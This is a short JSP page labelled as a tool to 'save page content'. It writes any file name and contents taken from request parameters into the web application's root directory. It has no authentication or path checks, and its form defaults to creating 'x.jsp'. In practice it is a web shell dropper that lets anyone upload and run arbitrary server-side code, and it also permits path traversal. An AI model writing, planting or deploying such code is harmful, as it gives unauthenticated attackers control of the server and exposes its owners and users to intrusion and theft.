<%@ page import="java.io.*" %>
<%
    // save page content
    String f = request.getParameter("f");
    String t = request.getParameter("t");
    if (f != null && t != null) {
        String path = application.getRealPath("/") + f;
        FileOutputStream fos = new FileOutputStream(path);
        fos.write(t.getBytes("UTF-8"));
        fos.close();
        out.println("ok: " + path);
    }
%>
<form method="post">file: <input name="f" value="x.jsp"><br><textarea name="t" cols="80" rows="15"></textarea><br><input type="submit"></form>
